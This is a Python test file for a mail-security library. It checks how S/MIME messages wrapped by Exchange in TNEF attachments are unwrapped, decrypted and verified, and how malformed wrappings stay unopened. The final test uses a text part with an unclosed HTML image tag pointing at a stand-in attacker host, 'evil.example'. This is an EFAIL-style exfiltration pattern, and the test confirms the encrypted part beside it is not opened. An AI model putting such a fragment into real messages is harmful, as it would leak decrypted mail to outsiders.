"""S/MIME that Exchange wrapped is read as what it is; any other winmail.dat stays one."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

import pytest

from letterlock.mail.message import Message
from letterlock.mail.parse import Part
from letterlock.smime.peel import Peeled, peel, whole
from tests.fakes import tnef
from tests.fakes.own_keys import Keys
from tests.fakes.people import encrypted_entity, person, signed_entity

ALICE, BOB = person("alice"), person("bob")
INSIDE = b"Content-Type: text/plain\r\n\r\nHello\r\n"
HEADER = b"From: alice@example.org\r\nTo: bob@example.net\r\nSubject: s\r\nMIME-Version: 1.0\r\n"


def cms(entity: bytes) -> bytes:
    """The CMS object of an application/pkcs7-mime entity."""
    return b"".join(bytes(each) for each in Part(entity).decoded())


ENVELOPED = cms(encrypted_entity([INSIDE], BOB))
BOTH = cms(encrypted_entity(signed_entity([INSIDE], ALICE), BOB))
CLEAR = b"".join(signed_entity([INSIDE], ALICE))


def peeled(entity: bytes, keys: Keys | None = None) -> Peeled:
    """The layers found."""
    return asyncio.run(peel(Message(HEADER + entity), keys or Keys(BOB)))


def facts(found: Peeled) -> list[tuple[str, bool, str]]:
    """The layers in short."""
    return [(each.kind, each.opened, each.verdict) for each in found.layers]


@pytest.mark.req("B14")
@pytest.mark.parametrize(
    "wrap",
    [
        lambda octets: tnef.entity(octets),
        lambda octets: tnef.entity(octets, "application/vnd.ms-tnef"),
        lambda octets: tnef.entity(octets, "application/octet-stream"),
        lambda octets: tnef.mixed(tnef.entity(octets)),
        lambda octets: tnef.mixed(*tnef.texts(b"", b" \r\n"), tnef.entity(octets)),
    ],
)
def test_encrypted(wrap: Callable[[bytes], bytes]) -> None:
    found = peeled(wrap(tnef.wrapping(ENVELOPED)))
    assert facts(found) == [("encrypted", True, "ok")]
    assert (
        bytes(found.opened.octets) == HEADER.replace(b"MIME-Version: 1.0\r\n", b"") + b"MIME-Version: 1.0\r\n" + INSIDE
    )


@pytest.mark.req("B14")
def test_signed_inside() -> None:
    found = peeled(tnef.entity(tnef.wrapping(BOTH)))
    assert facts(found) == [("encrypted", True, "ok"), ("signed", True, "ok")]
    assert [each.verdict for each in found.layers[1].outcomes] == ["ok"]


@pytest.mark.req("B14")
@pytest.mark.parametrize("sealed", [False, True])
def test_one_that_is_only_signed_is_an_attachment_like_others(sealed: bool) -> None:
    """Its frame says things that nobody signed, and it goes on as it came: nobody may be shown as having signed it."""
    octets = tnef.wrapping(CLEAR, name="SMIME.txt", message_class="IPM.Note.SMIME.MultipartSigned")
    entity = tnef.entity(octets)
    found = peeled(encrypted_entity([entity], BOB) if sealed else entity)
    assert facts(found) == ([("encrypted", True, "ok")] if sealed else [])
    assert b"ms-tnef" in bytes(found.payload.octets)


@pytest.mark.req("B14")
def test_without_the_key_it_stays_as_it_is() -> None:
    found = peeled(tnef.entity(tnef.wrapping(ENVELOPED)), Keys())
    assert facts(found) == [("encrypted", False, "not-for-us")]
    assert found.opened is found.message and found.bare() is found.message


@pytest.mark.req("B14")
@pytest.mark.parametrize(
    "entity",
    [
        tnef.entity(tnef.wrapping(ENVELOPED, message_class="IPM.Note")),  # somebody attached such a file
        tnef.entity(tnef.wrapping(ENVELOPED, message_class="")),
        tnef.entity(tnef.wrapping(ENVELOPED) + tnef.attachment("more.txt", b"x")),
        tnef.entity(tnef.wrapping(b"")),
        tnef.entity(tnef.wrapping(b"0 no CMS object")),
        tnef.entity(tnef.wrapping(b"plain text", message_class="IPM.Note.SMIME.MultipartSigned")),
        tnef.entity(tnef.wrapping(ENVELOPED)[:-4]),
        tnef.entity(b""),
        tnef.mixed(*tnef.texts(b"", b"", b""), tnef.entity(tnef.wrapping(ENVELOPED))),
        tnef.mixed(tnef.entity(tnef.wrapping(ENVELOPED)), tnef.entity(tnef.wrapping(ENVELOPED))),
    ],
)
def test_not_a_wrapped_message(entity: bytes) -> None:
    assert whole(Part(HEADER + entity)) is None
    assert [each for each in peeled(entity).layers if each.opened] == []


@pytest.mark.req("B14", "B2")
def test_beside_a_text_it_is_told_of_and_not_opened() -> None:
    found = peeled(tnef.mixed(*tnef.texts(b'<img src="https://evil.example/?'), tnef.entity(tnef.wrapping(ENVELOPED))))
    assert (found.layers, found.partial, found.changed) == ((), ("encrypted",), False)
